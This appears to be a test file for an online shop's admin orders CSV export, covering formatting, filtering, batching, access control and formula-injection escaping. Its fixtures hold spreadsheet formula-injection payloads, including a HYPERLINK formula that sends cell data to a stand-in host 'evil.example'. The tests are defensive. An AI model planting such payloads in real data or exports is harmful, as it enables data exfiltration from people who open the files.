import { errorResponseSchema } from '@shop/contracts';
import { parse } from 'csv-parse/sync';
import { fromMajor, minor } from '../../lib/money.js';
import { type Api, describe, expect, test } from '../../test/fixtures.js';
import { createUser, notSignedIn, unknownId, withToken } from '../../test/harness.js';
import { makeOrder, makeOrderedProduct } from '../../test/orders.js';
import { insertUser } from '../auth/repository.js';
import { insertOrder } from './changes.js';
import { ORDERS_CSV_COLUMNS } from './csv-export.js';
import { findStoredOrder } from './repository/reads.js';
import { insertOrdersInBulk } from './repository/writes.js';

const usd = (major: number) => fromMajor(major, 'usd');

const CSV = '/api/v1/auth/all-orders.csv';

/** The export as text, read whole (supertest gives text bodies of text/csv as they came). */
const exportOf = (api: Api, token: string, query: Record<string, string> = {}) =>
  api
    .get(`${CSV}?${new URLSearchParams(query)}`)
    .set('Authorization', token)
    .buffer(true)
    .expect(200);

/** The rows under the header, by column name, read by an independent RFC 4180 reader. */
const rowsOf = (text: string) =>
  parse(text.replace(/^\uFEFF/, ''), { columns: true, relax_column_count: false }) as Record<
    string,
    string
  >[];

/** A formula character at the start of a cell, as a spreadsheet reads it. */
const FORMULA_START = /^[=+\-@]/;

/**
 * The cells a spreadsheet would make of the text were it to split each line on `separator`
 * alone (a `;` where that is the list separator, a tab), taking a quote only where a cell
 * starts with one (so a `,`-delimited quoted field does not hold it together): with the
 * spaces and the quote a cell starts with taken off.
 */
const cellsSplitOn = (text: string, separator: string) =>
  text
    .split(/\r\n|\r|\n/)
    .flatMap((line) => line.split(separator))
    .map((cell) => cell.replace(/^\s*"?/, ''));

/** A buyer whose name, as a spreadsheet cell, would be a formula. */
async function formulaBuyer(name = '=HYPERLINK("http://evil.example","Click")') {
  const user = await insertUser({
    name,
    email: `formula-${Date.now()}-${Math.random().toString(36).slice(2, 8)}@example.com`,
    passwordHash: 'x',
    phone: '555',
    address: '1 Street',
    role: 0,
  });
  return user;
}

describe('GET /api/v1/auth/all-orders.csv', () => {
  test('when an admin exports, then an attachment of RFC 4180 CSV comes back: a BOM, a header, one row an order, CRLF line ends', async ({
    api,
    admin,
  }) => {
    const buyer = await createUser();
    const product = await makeOrderedProduct(12.5);
    const orderId = await makeOrder({ buyer: buyer.id, products: [product], status: 'Shipped' });
    const number = String((await findStoredOrder(orderId))?.number);

    const res = await exportOf(api, admin.token);

    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="orders-.+\.csv"$/);
    expect(res.text.startsWith('\uFEFF')).toBe(true);
    expect(res.text.split('\r\n')[0]).toBe(`\uFEFF${ORDERS_CSV_COLUMNS.join(',')}`);
    expect(res.text.endsWith('\r\n')).toBe(true);
    const row = rowsOf(res.text).find((r) => r.Order === number);
    expect(row).toMatchObject({
      Status: 'Shipped',
      'Buyer e-mail': buyer.email,
      Items: `2 x ${product.name}: 2 × 12.50`,
      Quantity: '2',
      // Recorded without a breakdown (demo data): its lines alone.
      Subtotal: '25.00',
      'Shipping method': '',
      Shipping: '0.00',
      Tax: '0.00',
      Total: '25.00',
      Currency: 'USD',
      Payment: 'Success',
      'Payment state': 'succeeded',
    });
    expect(row?.['Payment reference']).toMatch(/^pi_test_/);
  });

  test('when cells hold commas, quotes and line breaks, or start with = + - @, then they are quoted, and the formulas (at the start of a cell or of a line) start with a quote', async ({
    api,
    admin,
  }) => {
    const buyer = await formulaBuyer();
    const product = await makeOrderedProduct();
    const orderId = await insertOrder({
      lines: [
        { productId: product.id, name: 'Lamp, "big"\r\nred', unitPrice: usd(5), quantity: 1 },
        { productId: product.id, name: '@SUM(A1)', unitPrice: usd(5), quantity: 1 },
      ],
      payment: {
        id: `pi_csv_${Date.now()}`,
        status: 'succeeded',
        amount: minor(1000),
        currency: 'usd',
      },
      buyer: { _id: buyer._id, address: '+1 555 0100\n-2+3' },
    });
    const number = String((await findStoredOrder(orderId ?? ''))?.number);

    const res = await exportOf(api, admin.token, { q: number });

    expect(res.text).toContain('"1 x Lamp, ""big""\r\nred; 1 x @SUM(A1)"');
    const [row, ...others] = rowsOf(res.text);
    expect(others).toEqual([]);
    expect(row).toMatchObject({
      Order: number,
      Buyer: `'${buyer.name}`,
      Items: '1 x Lamp, "big"\r\nred; 1 x @SUM(A1)',
      Address: "'+1 555 0100\n'-2+3",
    });
  });

  test('when a name or an address holds a formula after a separator, then the cell is quoted, starts with a quote, and no separator in it is followed by a formula: whatever a spreadsheet splits on, no cell starts with one', async ({
    api,
    admin,
  }) => {
    const buyer = await formulaBuyer('Ann;=1+2;@SUM(1)');
    const product = await makeOrderedProduct();
    const orderId = await insertOrder({
      lines: [{ productId: product.id, name: 'Lamp', unitPrice: usd(5), quantity: 1 }],
      payment: {
        id: `pi_csv_${Date.now()}`,
        status: 'succeeded',
        amount: minor(500),
        currency: 'usd',
      },
      buyer: { _id: buyer._id },
      deliveryAddress: {
        name: 'Ann',
        street: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        city: 'London',
        postalCode: 'N1 9GU',
        country: 'United Kingdom',
        phone: '+44 20 7946 0000',
      },
    });
    const number = String((await findStoredOrder(orderId ?? ''))?.number);

    const res = await exportOf(api, admin.token, { q: number });

    const [row, ...others] = rowsOf(res.text);
    expect(others).toEqual([]);
    expect(row).toMatchObject({
      Order: number,
      Buyer: "'Ann;'=1+2;'@SUM(1)",
      Address:
        '\'Ann, \'=HYPERLINK("http://evil.example/?"&A1,"Click"), N1 9GU London, United Kingdom, Phone: +44 20 7946 0000',
      Total: '5.00',
    });
    expect(res.text).toContain(
      `\r\n${number},${row?.['Placed at (UTC)']},Not Process,"'Ann;'=1+2;`,
    );
    expect(res.text).toContain(',1 x Lamp,1,5.00,,,0.00,0.00,5.00,USD,');
    for (const separator of [',', ';', '\t']) {
      const formulas = cellsSplitOn(res.text, separator).filter((cell) => FORMULA_START.test(cell));
      expect(formulas, `cells split on ${JSON.stringify(separator)}`).toEqual([]);
    }
  });

  test('when an order was placed with a delivery address, then its Address cell is that address on one line', async ({
    api,
    admin,
  }) => {
    const buyer = await createUser();
    const product = await makeOrderedProduct();
    const orderId = await insertOrder({
      lines: [{ productId: product.id, name: 'Lamp', unitPrice: usd(5), quantity: 1 }],
      payment: {
        id: `pi_csv_${Date.now()}`,
        status: 'succeeded',
        amount: minor(500),
        currency: 'usd',
      },
      buyer: { _id: buyer.id, address: 'Profile text, not the delivery' },
      deliveryAddress: {
        name: 'Ada Byron',
        street: '12 Analytical Row',
        city: 'London',
        postalCode: 'N1 9GU',
        country: 'United Kingdom',
        phone: '+44 20 7946 0000',
      },
    });
    const number = String((await findStoredOrder(orderId ?? ''))?.number);

    const [row] = rowsOf((await exportOf(api, admin.token, { q: number })).text);

    expect(row?.Address).toBe(
      'Ada Byron, 12 Analytical Row, N1 9GU London, United Kingdom, Phone: +44 20 7946 0000',
    );
  });

  test('when an order was placed with discounts, then its Discounts cell names each (an automatic one by its title) with what it took off, after the Subtotal before them', async ({
    api,
    admin,
  }) => {
    const buyer = await createUser();
    const product = await makeOrderedProduct();
    const orderId = await insertOrder({
      lines: [{ productId: product.id, name: 'Lamp', unitPrice: usd(60), quantity: 1 }],
      payment: {
        id: `pi_csv_${Date.now()}`,
        status: 'succeeded',
        amount: minor(4300),
        currency: 'usd',
      },
      buyer: { _id: buyer.id },
      breakdown: {
        pricesIncludeTax: false,
        lines: [{ net: minor(4300), tax: minor(0), gross: minor(4300), bp: 0 }],
        subtotal: minor(6000),
        shipping: null,
        tax: minor(0),
        total: minor(4300),
        discounts: [
          { _id: unknownId(), code: 'WELCOME10', title: 'Welcome', amount: minor(1200) },
          { _id: unknownId(), code: null, title: 'Spend 50, save 5', amount: minor(500) },
        ],
      },
    });
    const number = String((await findStoredOrder(orderId ?? ''))?.number);

    const [row] = rowsOf((await exportOf(api, admin.token, { q: number })).text);

    expect(row).toMatchObject({
      Subtotal: '60.00',
      Discounts: 'WELCOME10 \u221212.00; Spend 50, save 5 \u22125.00',
      Total: '43.00',
    });
  });

  test('when an admin exports with a status and a search, then only the orders all-orders shows with them come, newest first', async ({
    api,
    admin,
  }) => {
    const buyer = await createUser();
    const product = await makeOrderedProduct();
    const kept = await makeOrder({ buyer: buyer.id, products: [product], status: 'deliverd' });
    await makeOrder({ buyer: buyer.id, products: [product], status: 'Processing' });
    const listed = await api
      .get(`/api/v1/auth/all-orders?status=deliverd&q=${encodeURIComponent(buyer.email)}`)
      .set('Authorization', admin.token)
      .expect(200);

    const res = await exportOf(api, admin.token, { status: 'deliverd', q: buyer.email });

    const numbers = rowsOf(res.text).map((r) => Number(r.Order));
    expect(numbers).toEqual(listed.body.orders.map((o: { number: number }) => o.number));
    expect(numbers).toEqual([(await findStoredOrder(kept))?.number]);
  });

  test('when the export spans several batches, then every order comes once, newest first', async ({
    api,
    admin,
  }) => {
    const buyer = await createUser();
    const product = await makeOrderedProduct(3);
    const start = Date.now() - 1_000_000;
    await insertOrdersInBulk(
      Array.from({ length: 450 }, (_, i) => ({
        lines: [{ productId: product.id, name: product.name, unitPrice: usd(3), quantity: 1 }],
        payment: {
          id: `pi_bulk_${start}_${i}`,
          status: 'succeeded',
          amount: minor(300),
          currency: 'usd',
        },
        buyer: { _id: buyer.id },
        createdAt: new Date(start + i * 1000),
      })),
    );

    const res = await exportOf(api, admin.token, { q: buyer.email });

    const rows = rowsOf(res.text);
    expect(rows).toHaveLength(450);
    const times = rows.map((row) => Date.parse(row['Placed at (UTC)'] ?? ''));
    expect(times).toEqual([...times].sort((a, b) => b - a));
    expect(new Set(rows.map((row) => row.Order)).size).toBe(450);
    expect(rows.every((row) => row['Buyer e-mail'] === buyer.email)).toBe(true);
  });

  test('when nothing matches, then the header row alone', async ({ api, admin }) => {
    const res = await exportOf(api, admin.token, { q: 'nobody-matches-this' });
    expect(res.text).toBe(`\uFEFF${ORDERS_CSV_COLUMNS.join(',')}\r\n`);
  });

  test.for([
    ['status=lost', 'status must be empty or one of'],
    [`q=${'y'.repeat(101)}`, 'q must be at most 100 characters'],
  ])('when the query has %s, then 400 in JSON', async ([query, message], { api, admin }) => {
    const res = await api.get(`${CSV}?${query}`).set('Authorization', admin.token).expect(400);
    expect(res.headers['content-type']).toMatch(/^application\/json/);
    expect(errorResponseSchema.parse(res.body).message).toContain(message);
  });

  test('when a normal user asks, then 403 and no CSV', async ({ api, user }) => {
    const res = await api.get(CSV).set('Authorization', user.token).expect(403);
    expect(errorResponseSchema.parse(res.body).success).toBe(false);
  });

  test.for(notSignedIn())('when the call carries %s, then 401', async ([, token], { api }) => {
    await withToken(api.get(CSV), token).expect(401);
  });
});
